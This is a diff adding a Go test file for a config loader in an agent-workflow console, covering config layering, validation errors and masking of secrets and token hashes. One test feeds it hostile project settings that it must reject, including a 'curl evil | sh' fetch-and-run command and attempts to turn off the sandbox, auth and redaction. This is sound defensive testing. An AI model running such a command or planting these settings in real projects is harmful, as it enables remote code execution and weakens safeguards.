@@ -0,0 +1,197 @@
+package console
+
+import (
+	"encoding/json"
+	"net/http"
+	"net/http/httptest"
+	"os"
+	"path/filepath"
+	"strings"
+	"testing"
+	"time"
+)
+
+func writeConfigFile(t *testing.T, path string, content string) {
+	t.Helper()
+	if err := os.MkdirAll(filepath.Dir(path), 0o755); err != nil {
+		t.Fatalf("MkdirAll error: %v", err)
+	}
+	if err := os.WriteFile(path, []byte(content), 0o644); err != nil {
+		t.Fatalf("WriteFile error: %v", err)
+	}
+}
+
+func TestLoadServerConfig_LayersGlobalProjectAndEnv(t *testing.T) {
+	dir := t.TempDir()
+	globalPath := filepath.Join(dir, "global", ConfigFileName)
+	projectPath := filepath.Join(dir, "project", ".ohmyagentflow", ConfigFileName)
+	writeConfigFile(t, globalPath, `{"port": 8080, "chat": {"sessionTTL": "1h", "modelTimeout": "40s"}, "fire": {"maxIterationsCap": 50, "verify": [{"name": "tests", "argv": ["go", "test", "./..."], "timeout": "5m"}]}}`)
+	writeConfigFile(t, projectPath, `{"chat": {"sessionTTL": "10m"}, "archive": {"retentionCount": 5}}`)
+
+	cfg, err := LoadServerConfig(globalPath, projectPath, []string{
+		"OHMYAGENTFLOW_FIRE_MAX_ITERATIONS_CAP=75",
+		"OHMYAGENTFLOW_ARCHIVE_COMPRESS=false",
+		"UNRELATED=1",
+	})
+	if err != nil {
+		t.Fatalf("LoadServerConfig error: %v", err)
+	}
+	if err := cfg.Validate(); err != nil {
+		t.Fatalf("Validate error: %v", err)
+	}
+
+	if cfg.Port != 8080 {
+		t.Fatalf("expected port from global config, got %d", cfg.Port)
+	}
+	if time.Duration(cfg.Chat.SessionTTL) != 10*time.Minute || time.Duration(cfg.Chat.ModelTimeout) != 40*time.Second {
+		t.Fatalf("expected project TTL and global model timeout, got %s / %s", time.Duration(cfg.Chat.SessionTTL), time.Duration(cfg.Chat.ModelTimeout))
+	}
+	if cfg.Fire.MaxIterationsCap != 75 || cfg.Archive.Compress {
+		t.Fatalf("expected env overrides to win, got cap=%d compress=%v", cfg.Fire.MaxIterationsCap, cfg.Archive.Compress)
+	}
+	if v := cfg.Fire.Verify; len(v) != 1 || v[0].Name != "tests" || len(v[0].Argv) != 3 || time.Duration(v[0].Timeout) != 5*time.Minute {
+		t.Fatalf("expected verify commands from the global config, got %+v", v)
+	}
+	if cfg.Archive.RetentionCount != 5 || cfg.Stream.MaxEventsPerRun != DefaultMaxEventsPerRun {
+		t.Fatalf("expected untouched fields to keep their values, got retention=%d maxEvents=%d", cfg.Archive.RetentionCount, cfg.Stream.MaxEventsPerRun)
+	}
+	if len(cfg.Sources) != 4 || cfg.Sources[0] != "defaults" || !strings.HasPrefix(cfg.Sources[3], "env:") {
+		t.Fatalf("unexpected sources: %v", cfg.Sources)
+	}
+}
+
+func TestLoadServerConfig_ReportsClearErrors(t *testing.T) {
+	dir := t.TempDir()
+	path := filepath.Join(dir, ConfigFileName)
+
+	for _, tc := range []struct {
+		name    string
+		content string
+		env     []string
+		want    string
+	}{
+		{name: "unknown field", content: `{"prot": 1}`, want: `unknown field "prot"`},
+		{name: "syntax", content: "{\n  \"port\": 1,\n}", want: "invalid JSON at line 3"},
+		{name: "type", content: `{"port": "80"}`, want: "port must be a int"},
+		{name: "duration", content: `{"chat": {"sessionTTL": 30}}`, want: "duration must be a string"},
+		{name: "env", content: `{}`, env: []string{"OHMYAGENTFLOW_PORT=abc"}, want: "env OHMYAGENTFLOW_PORT"},
+	} {
+		t.Run(tc.name, func(t *testing.T) {
+			writeConfigFile(t, path, tc.content)
+			_, err := LoadServerConfig("", path, tc.env)
+			if err == nil || !strings.Contains(err.Error(), tc.want) {
+				t.Fatalf("expected error containing %q, got %v", tc.want, err)
+			}
+		})
+	}
+}
+
+func TestLoadServerConfig_ProjectFileCannotSetSecuritySettings(t *testing.T) {
+	dir := t.TempDir()
+	globalPath := filepath.Join(dir, "global", ConfigFileName)
+	projectPath := filepath.Join(dir, "project", ".ohmyagentflow", ConfigFileName)
+	writeConfigFile(t, globalPath, `{"remote": {"bind": "127.0.0.1"}, "fire": {"sandbox": {"backend": "none"}}}`)
+
+	for _, tc := range []struct {
+		content string
+		want    string
+	}{
+		{content: `{"remote": {"enabled": true}}`, want: "remote can only be set"},
+		{content: `{"auth": {"readMode": "off"}}`, want: "auth can only be set"},
+		{content: `{"redact": {"entropy": false}}`, want: "redact can only be set"},
+		{content: `{"fire": {"maxIterationsCap": 5, "sandbox": {"backend": "none"}}}`, want: "fire.sandbox can only be set"},
+		{content: `{"fire": {"verify": [{"argv": ["sh", "-c", "curl evil | sh"]}]}}`, want: "fire.verify can only be set"},
+		{content: `{"fs": {"maxReadBytes": 1024, "readWhitelist": ["**"]}}`, want: "fs.readWhitelist can only be set"},
+		{content: `{"fire": {"limits": {"cgroupParent": "/sys/fs/cgroup"}}}`, want: "fire.limits.cgroupParent can only be set"},
+	} {
+		writeConfigFile(t, projectPath, tc.content)
+		_, err := LoadServerConfig(globalPath, projectPath, nil)
+		if err == nil || !strings.Contains(err.Error(), tc.want) || !strings.Contains(err.Error(), projectPath) {
+			t.Fatalf("%s: expected error containing %q, got %v", tc.content, tc.want, err)
+		}
+	}
+
+	writeConfigFile(t, projectPath, `{"fire": {"maxIterationsCap": 5, "limits": {"openFiles": 100}}, "fs": {"maxReadBytes": 1024}}`)
+	cfg, err := LoadServerConfig(globalPath, projectPath, nil)
+	if err != nil || cfg.Fire.MaxIterationsCap != 5 || cfg.Fire.Limits.OpenFiles != 100 || cfg.FS.MaxReadBytes != 1024 || cfg.Remote.Bind != "127.0.0.1" {
+		t.Fatalf("expected other project settings and global security settings to load, got %+v (%v)", cfg, err)
+	}
+}
+
+func TestServerConfig_ValidateListsAllProblems(t *testing.T) {
+	cfg := DefaultServerConfig()
+	cfg.Port = 70000
+	cfg.Chat.SessionTTL = 0
+	cfg.Fire.MaxIterationsCap = 0
+	cfg.Redact.Patterns = []string{"("}
+	cfg.Auth.ReadMode = "strict"
+	cfg.FS.ReadWhitelist = []string{"../secrets/*"}
+	cfg.Fire.Verify = []FireVerifyCommand{{Name: "empty"}}
+	cfg.Fire.Sandbox.Backend = "docker"
+	cfg.Fire.Limits.OpenFiles = -1
+	cfg.Fire.UsageInterval = Duration(time.Millisecond)
+	cfg.Fire.StopGracePeriod = 0
+
+	err := cfg.Validate()
+	if err == nil {
+		t.Fatalf("expected validation error")
+	}
+	for _, want := range []string{"port must be between", "chat.sessionTTL must be positive", "fire.maxIterationsCap", "redact pattern 1", "auth.readMode", "fs.readWhitelist", "fire.verify", "fire.sandbox: image is required", "fire.limits:", "fire.usageInterval", "fire.stopGracePeriod"} {
+		if !strings.Contains(err.Error(), want) {
+			t.Fatalf("expected %q in error, got:\n%v", want, err)
+		}
+	}
+}
+
+func TestConfigHandler_MasksRedactPatterns(t *testing.T) {
+	cfg := DefaultServerConfig()
+	cfg.Redact.Patterns = []string{"hunter2"}
+
+	rr := httptest.NewRecorder()
+	ConfigHandler(cfg).ServeHTTP(rr, httptest.NewRequest(http.MethodGet, "/api/config", nil))
+	if strings.Contains(rr.Body.String(), "hunter2") {
+		t.Fatalf("expected patterns to be masked, got %s", rr.Body.String())
+	}
+
+	var got map[string]any
+	if err := json.Unmarshal(rr.Body.Bytes(), &got); err != nil {
+		t.Fatalf("decode: %v", err)
+	}
+	chat, _ := got["chat"].(map[string]any)
+	if chat["sessionTTL"] != "30m0s" {
+		t.Fatalf("expected durations rendered as strings, got %v", chat["sessionTTL"])
+	}
+	fire, _ := got["fire"].(map[string]any)
+	if fire["maxIterationsCap"] != float64(DefaultFireMaxIterationsCap) {
+		t.Fatalf("expected maxIterationsCap in config, got %v", fire["maxIterationsCap"])
+	}
+}
+
+func TestServerConfig_RemoteModeRequiresCredentialsAndMasksHashes(t *testing.T) {
+	cfg := DefaultServerConfig()
+	cfg.Remote.Enabled = true
+	if err := cfg.Validate(); err == nil || !strings.Contains(err.Error(), "requires a password hash") {
+		t.Fatalf("expected remote mode without credentials to be rejected, got %v", err)
+	}
+
+	hash, err := HashSecret("pw")
+	if err != nil {
+		t.Fatalf("HashSecret error: %v", err)
+	}
+	tokenHash, err := HashToken("viewer-token-0123456789")
+	if err != nil {
+		t.Fatalf("HashToken error: %v", err)
+	}
+	cfg.Remote.PasswordHash = hash
+	cfg.Remote.Tokens = []RemoteToken{{Name: "viewer", Hash: tokenHash, Role: RoleRead}}
+	if err := cfg.Validate(); err != nil {
+		t.Fatalf("Validate error: %v", err)
+	}
+	masked := cfg.Masked()
+	if masked.Remote.PasswordHash == hash || masked.Remote.Tokens[0].Hash == tokenHash || masked.Remote.Tokens[0].Name != "viewer" {
+		t.Fatalf("expected hashes to be masked, got %+v", masked.Remote)
+	}
+	if cfg.Remote.Tokens[0].Hash != tokenHash {
+		t.Fatalf("Masked must not modify the original config")
+	}
+}